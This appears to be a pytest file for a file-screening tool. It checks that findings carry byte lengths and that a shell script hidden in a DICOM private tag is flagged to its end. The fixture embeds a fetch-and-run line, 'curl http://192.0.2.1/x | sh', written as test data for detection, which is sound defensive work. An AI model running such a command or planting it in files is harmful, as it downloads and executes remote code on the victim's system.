"""screen.extent: how far a finding reaches whose own header does not say."""

from __future__ import annotations

import pytest

from harness import hidden
from strongroom.screen.findings import Severity
from strongroom.screen.screening import screen_bytes

CASES = [case for number, case in enumerate(hidden.cases()) if number % 7 == 0]


@pytest.mark.parametrize("case", CASES, ids=[case.name for case in CASES])
def test_a_payload_has_a_length(case: hidden.Case) -> None:
    data = case.make()
    for finding in screen_bytes(data).at_least(Severity.MEDIUM):
        is_of_all = finding.place.path == "file"
        if not is_of_all and not finding.rule.id.startswith(("SR-LIM", "SR-STR", "SR-META")):
            assert finding.place.length > 0, finding


def test_a_program_in_a_private_value_reaches_to_its_end() -> None:
    text = b"#!/bin/sh\ncurl http://192.0.2.1/x | sh\nexit 0\n" * 3
    padded = text + b" " * (len(text) & 1)
    head = b"\x08\x00\x05\x00CS\x0a\x00ISO_IR 100"
    creator = b"\x29\x00\x10\x00LO\x04\x00TEST"
    value = b"\x29\x00\x01\x10OB\0\0" + len(padded).to_bytes(4, "little") + padded
    tail = b"\xe0\x7f\x10\x00OW\0\0\x02\0\0\0\1\2"
    data = bytes(128) + b"DICM" + b"\x02\x00\x10\x00UI\x14\x001.2.840.10008.1.2.1\0" + head + creator + value + tail
    places = [each.place for each in screen_bytes(data).findings if each.rule.id == "SR-SCRIPT-001"]
    assert data.index(padded) in [place.offset for place in places]
    assert {place.offset + place.length for place in places} == {data.index(padded) + len(padded)}
